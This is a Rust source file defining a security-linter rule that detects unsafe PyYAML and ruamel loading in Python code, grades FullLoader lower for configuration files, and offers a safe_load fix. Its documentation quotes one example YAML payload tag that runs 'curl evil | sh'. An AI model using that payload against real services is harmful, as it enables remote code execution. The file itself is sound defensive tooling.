//! `python/yaml-unsafe-load`: `yaml.load` with a loader that builds arbitrary objects.

use tree_sitter::Node;

use crate::finding::{Fix, Severity};
use crate::parse::python::PythonFile;
use crate::rules::python::util::{self, Module};
use crate::rules::{FileCx, Rule, RuleMeta, Sink};

/// See [`META`].
pub struct YamlUnsafeLoad;

/// Metadata and docs.
pub static META: RuleMeta = RuleMeta {
    id: "python/yaml-unsafe-load",
    summary: "`yaml.load` without a safe loader (or `yaml.unsafe_load`): YAML can run code",
    severity: Severity::High,
    docs: r#"
## Why
PyYAML's full and unsafe loaders turn tags such as
`!!python/object/apply:os.system ["curl evil | sh"]` into Python calls. Loading a
config file, a model card, a pipeline definition or an API payload with them
means whoever can write that YAML can run code in your process. `yaml.load(f)`
without a `Loader` used `FullLoader` up to PyYAML 5 (exploitable before 5.4,
CVE-2020-14343) and is a `TypeError` since PyYAML 6.

Reported: `yaml.load(x)` / `yaml.load_all(x)` without a loader;
`Loader=yaml.Loader`, `UnsafeLoader`, `CLoader`, `CUnsafeLoader` (high);
`FullLoader`/`CFullLoader` and `yaml.full_load` (medium: fixed against known
exploits since 5.4, still builds arbitrary Python objects; low when the document is
the deployment's own configuration file, `with open(BACKEND_CONF_YAML) as f` or
`open(config_file)`: whoever writes it already configures the service);
`yaml.unsafe_load`/`unsafe_load_all`; ruamel `YAML(typ="unsafe")`. Not reported:
`safe_load`, `SafeLoader`, `CSafeLoader`, `BaseLoader`, and loaders that are not
PyYAML's own (`Loader=AnsibleLoader`, `Loader=ConfigLoader`): those are almost
always `SafeLoader` subclasses, and bandit's B506 reports them all (11 false
alarms on ansible-core). A call passing `**kwargs` is skipped. Production code
and examples are checked, tests are not.

## Example
```python
with open(path) as f:
    cfg = yaml.load(f, Loader=yaml.Loader)
```
Fine:
```python
    cfg = yaml.safe_load(f)
```

## Fix
Use `yaml.safe_load` (or `Loader=yaml.SafeLoader` / `CSafeLoader`). For
`yaml.load(x)` without a loader, `harden fix --unsafe` rewrites it to
`yaml.safe_load(x)` (unsafe: documents that really use Python tags will no
longer load).

Same check as bandit B506 (yaml_load) and ruff `S506`; we also follow import
aliases (`from yaml import load`) and grade `FullLoader` lower.
"#,
};

impl Rule for YamlUnsafeLoad {
    fn meta(&self) -> &'static RuleMeta {
        &META
    }

    fn check_python(&self, py: &PythonFile, cx: &FileCx<'_>, out: &mut Sink<'_>) {
        if !util::is_shipped_or_example(cx) {
            return;
        }
        let text = cx.file.text.as_str();
        if !text.contains("yaml") {
            return;
        }
        let Some(m) = Module::new(py, text) else {
            return;
        };
        for call in m.calls() {
            let Some(name) = m.callee(call) else { continue };
            // `yaml.…` is PyYAML only when the module imports it: `yaml = YAML(typ="safe")`
            // (ruamel) makes a local `yaml` whose `load` is safe.
            if name.starts_with("yaml.") && !m.imports_module("yaml") {
                continue;
            }
            match name.as_str() {
                "yaml.load" | "yaml.load_all" => {
                    let loader = util::kwarg(call, "Loader", text)
                        .or_else(|| util::positional(call).get(1).copied());
                    match loader {
                        None => {
                            if util::has_kwargs_splat(call) {
                                continue;
                            }
                            let edit = if name == "yaml.load" && util::positional(call).len() == 1 {
                                call.child_by_field_name("function")
                                    .and_then(|f| rename_edit(f, &m))
                                    .and_then(|(r, s)| out.edit(r, s))
                            } else {
                                None
                            };
                            let f = out.report(
                                call.byte_range(),
                                format!("`{name}()` without a safe Loader can construct arbitrary Python objects from the document; use `yaml.safe_load`"),
                            );
                            if let Some(edit) = edit {
                                f.fix = Some(Fix::unsafe_because(
                                    "Use yaml.safe_load",
                                    "documents that rely on Python tags will no longer load",
                                    vec![edit],
                                ));
                            }
                        }
                        Some(l) => match loader_risk(l, &m) {
                            Risk::Safe => {}
                            Risk::Unsafe(which) => {
                                out.report(
                                    call.byte_range(),
                                    format!("`{name}(..., Loader={which})` can run code embedded in the YAML; use `SafeLoader`/`yaml.safe_load`"),
                                );
                            }
                            Risk::Full(which) => {
                                let f = out.report(
                                    call.byte_range(),
                                    format!("`{name}(..., Loader={which})` builds arbitrary Python objects from the document; use `SafeLoader`/`yaml.safe_load`"),
                                );
                                f.severity = full_loader_severity(call, &m);
                            }
                        },
                    }
                }
                "yaml.unsafe_load" | "yaml.unsafe_load_all" => {
                    out.report(
                        call.byte_range(),
                        format!(
                            "`{name}()` can run code embedded in the YAML; use `yaml.safe_load`"
                        ),
                    );
                }
                "yaml.full_load" | "yaml.full_load_all" => {
                    let f = out.report(
                        call.byte_range(),
                        format!("`{name}()` builds arbitrary Python objects from the document; use `yaml.safe_load`"),
                    );
                    f.severity = full_loader_severity(call, &m);
                }
                n if n.ends_with("YAML") && n.starts_with("ruamel") => {
                    if let Some(t) = util::kwarg(call, "typ", text) {
                        let v = m.text(t).trim_matches(|c| c == '"' || c == '\'');
                        if v == "unsafe" {
                            out.report(
                                call.byte_range(),
                                "ruamel `YAML(typ=\"unsafe\")` can run code embedded in the YAML; use `typ=\"safe\"`",
                            );
                        }
                    }
                }
                _ => {}
            }
        }
    }
}

enum Risk {
    Safe,
    Unsafe(String),
    Full(String),
}

fn loader_risk(l: Node<'_>, m: &Module<'_>) -> Risk {
    let resolved = m.resolve(l).unwrap_or_default();
    let last = resolved.rsplit('.').next().unwrap_or("").to_string();
    match last.as_str() {
        "Loader" | "UnsafeLoader" | "CLoader" | "CUnsafeLoader" if resolved.starts_with("yaml") => {
            Risk::Unsafe(m.text(l).to_string())
        }
        "FullLoader" | "CFullLoader" if resolved.starts_with("yaml") => {
            Risk::Full(m.text(l).to_string())
        }
        _ => Risk::Safe,
    }
}

/// Replaces the `load` part of `yaml.load` / an imported `load` with `safe_load`.
fn rename_edit(f: Node<'_>, m: &Module<'_>) -> Option<(std::ops::Range<usize>, String)> {
    match f.kind() {
        "attribute" => {
            let a = f.child_by_field_name("attribute")?;
            (m.text(a) == "load").then(|| (a.byte_range(), "safe_load".to_string()))
        }
        _ => None,
    }
}

/// `FullLoader` is medium, and low when the document is the deployment's own
/// configuration file: the call reads a handle from `with open(CONFIG_PATH) as f`
/// (or `open(…)` directly) whose path is a constant (`BACKEND_CONF_YAML`) or a name
/// that says configuration (`config_file`, `settings_path`). Whoever writes that file
/// already configures the service, and FullLoader refuses the known code-running tags
/// since PyYAML 5.4 (round 9: mathesar's SSO and storage configuration).
fn full_loader_severity(call: tree_sitter::Node<'_>, m: &Module<'_>) -> Severity {
    if reads_config_file(call, m) {
        Severity::Low
    } else {
        Severity::Medium
    }
}

fn reads_config_file(call: tree_sitter::Node<'_>, m: &Module<'_>) -> bool {
    let Some(arg) = util::positional(call).first().copied() else {
        return false;
    };
    let config_path = |open_call: tree_sitter::Node<'_>| {
        m.callee(open_call).as_deref() == Some("open")
            && util::positional(open_call).first().is_some_and(|p| {
                let t = m.text(*p);
                let last = t.rsplit('.').next().unwrap_or(t);
                let constant = !last.is_empty()
                    && last
                        .chars()
                        .all(|c| c.is_ascii_uppercase() || c.is_ascii_digit() || c == '_');
                let lower = last.to_ascii_lowercase();
                (p.kind() == "identifier" || p.kind() == "attribute")
                    && (constant || lower.contains("conf") || lower.contains("settings"))
            })
    };
    if arg.kind() == "call" {
        return config_path(arg);
    }
    if arg.kind() != "identifier" {
        return false;
    }
    let handle = m.text(arg);
    let mut cur = call.parent();
    while let Some(n) = cur {
        if n.kind() == "with_statement" {
            let bound = util::descendants(n)
                .filter(|d| d.kind() == "as_pattern")
                .any(|a| {
                    a.child_by_field_name("alias")
                        .is_some_and(|al| m.text(al).trim() == handle)
                        && a.named_child(0)
                            .is_some_and(|v| v.kind() == "call" && config_path(v))
                });
            if bound {
                return true;
            }
        }
        if n.kind() == "function_definition" {
            break;
        }
        cur = n.parent();
    }
    false
}
